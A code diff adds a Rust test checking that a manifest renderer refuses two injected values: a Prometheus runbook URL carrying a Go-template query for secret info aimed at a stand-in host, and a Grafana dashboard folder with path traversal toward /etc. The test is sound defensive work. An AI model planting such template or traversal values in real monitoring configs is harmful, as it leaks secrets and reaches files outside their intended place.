@@ -93,3 +93,21 @@ fn a_valid_manifest_still_renders() {
     let stdout = String::from_utf8_lossy(&output.stdout);
     assert!(stdout.contains("kind: Deployment"), "{stdout}");
 }
+
+/// Prometheus expands annotations as Go templates (with `query`): a runbook URL carrying
+/// `{{ … }}` would run any PromQL and post the result to the author's webhook.
+#[test]
+fn template_and_path_injection_are_refused() {
+    let injected = "  monitoring:\n    rules:\n      runbookBaseUrl: 'https://x.example/{{ query \"kube_secret_info\" }}'\n";
+    assert_refused(
+        &dice("dice", injected),
+        &["spec.monitoring.rules.runbookBaseUrl"],
+    );
+    let traversal = "  monitoring:\n    dashboard:\n      folder: ../../../../etc/grafana\n";
+    assert_refused(
+        &dice("dice", traversal),
+        &["spec.monitoring.dashboard.folder"],
+    );
+    let plain = "  monitoring:\n    dashboard:\n      folder: Team A dice\n    rules:\n      runbookBaseUrl: https://runbooks.example.com/dice\n";
+    assert!(render(&dice("dice", plain)).status.success());
+}
